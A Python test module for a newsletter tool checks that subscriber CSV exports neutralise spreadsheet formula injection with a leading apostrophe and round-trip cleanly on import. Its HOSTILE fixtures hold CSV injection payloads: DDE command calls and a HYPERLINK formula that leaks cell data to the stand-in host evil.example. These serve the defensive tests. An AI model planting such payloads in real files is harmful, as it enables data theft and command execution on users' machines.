"""CSV injection: every CSV the product writes opens in a spreadsheet as text, never as formulas.

A name (or an address) that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is what Excel, LibreOffice and Google Sheets run as a formula (or a DDE call);
OWASP's defence is a leading apostrophe. These tests export real members to a real
file, read every cell back with the csv module, and import the file again.
"""

import ast
import csv
import io
from pathlib import Path

from hypothesis import example, given
from hypothesis import strategies as st

from newsletter.audience.csvfile import FORMULA_START, GUARD, guard, unguard
from tests.conftest import Cli

PACKAGE = Path(__file__).parent.parent / "newsletter"
# Each of these is a known payload: a link out, a DDE command, an Excel 4 macro call.
HOSTILE = {
    "anna@example.org": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "ben@example.org": "+1+cmd|' /C calc'!A0",
    "cleo@example.org": "@SUM(1+1)*cmd|' /C calc'!A0",
    "dan@example.org": "-2+3+cmd|' /C calc'!A0",
    "fay@example.org": "O'Neil, Fay",
}
# Addresses may start with the same characters: "=", "+" and "-" are atext (RFC 5322).
HOSTILE_ADDRESSES = ["=1+1@example.org", "+cmd@example.org", "-x@example.org"]


def hostile_file(tmp_path: Path) -> Path:
    """A subscriber file as an attacker could get it into a group (a shared sheet, a sign-up export)."""
    buffer = io.StringIO()
    rows = csv.writer(buffer, lineterminator="\n")
    rows.writerow(["email", "name"])
    rows.writerows(HOSTILE.items())
    rows.writerows([address, ""] for address in HOSTILE_ADDRESSES)
    path = tmp_path / "hostile.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


def test_exported_cells_never_start_like_a_formula(cli: Cli, tmp_path: Path) -> None:
    """`subscribers export --output` writes every formula look-alike with a leading apostrophe."""
    cli("subscribers", "import", "uk", str(hostile_file(tmp_path)))
    path = tmp_path / "export.csv"
    cli("subscribers", "export", "uk", "--output", str(path))

    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["email", "name", "language", "status", "source", "since"]
    assert len(rows) == 1 + len(HOSTILE) + len(HOSTILE_ADDRESSES)
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), (row, cell)
    names = {row[0]: row[1] for row in rows[1:]}
    assert names["anna@example.org"] == GUARD + HOSTILE["anna@example.org"]
    assert names["ben@example.org"] == "'+1+cmd|' /C calc'!A0"
    assert names["cleo@example.org"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert names["dan@example.org"] == "'-2+3+cmd|' /C calc'!A0"
    assert names["fay@example.org"] == "O'Neil, Fay"
    assert {row[0] for row in rows[1:]} >= {"'=1+1@example.org", "'+cmd@example.org", "'-x@example.org"}
    # Standard output gets the same guarded CSV.
    assert cli("subscribers", "export", "uk").stdout == path.read_text(encoding="utf-8")


def test_an_export_imports_back_byte_for_byte(cli: Cli, tmp_path: Path) -> None:
    """Import strips the guard: the export gives back the same names and addresses, and changes nothing."""
    cli("subscribers", "import", "uk", str(hostile_file(tmp_path)))
    path = tmp_path / "export.csv"
    cli("subscribers", "export", "uk", "--output", str(path))

    again = cli("subscribers", "import", "uk", str(path)).stdout.splitlines()
    assert again[0] == f"added 0, updated 0, unchanged {len(HOSTILE) + len(HOSTILE_ADDRESSES)}, rejected 0"
    cli("subscribers", "import", "fr", str(path))
    copied = {email: member["name"] for email, member in cli.members("fr").items()}
    assert copied == {**HOSTILE, **dict.fromkeys(HOSTILE_ADDRESSES)}
    second = tmp_path / "second.csv"
    cli("subscribers", "export", "fr", "--output", str(second))
    first_rows = [row[:3] for row in csv.reader(path.open(encoding="utf-8", newline=""))]
    second_rows = [row[:3] for row in csv.reader(second.open(encoding="utf-8", newline=""))]
    assert first_rows == second_rows


@given(st.text())
@example("\t=1+1")
@example("\r=1+1")
@example("''''=x")
@example("'")
def test_guard_is_undone_by_unguard(cell: str) -> None:
    """Any text comes back from guard and unguard as it was, and a guarded cell never starts a formula."""
    guarded = guard(cell)
    assert not guarded.startswith(FORMULA_START)
    assert unguard(guarded) == cell


def test_every_csv_writer_is_the_guarded_one() -> None:
    """Only audience/csvfile.py makes csv writers; everything else writes CSV through csvfile.writer."""
    makers = []
    for path in sorted(PACKAGE.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in ("writer", "DictWriter")
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            ):
                makers.append(str(path.relative_to(PACKAGE)))
    assert makers == ["audience/csvfile.py"]
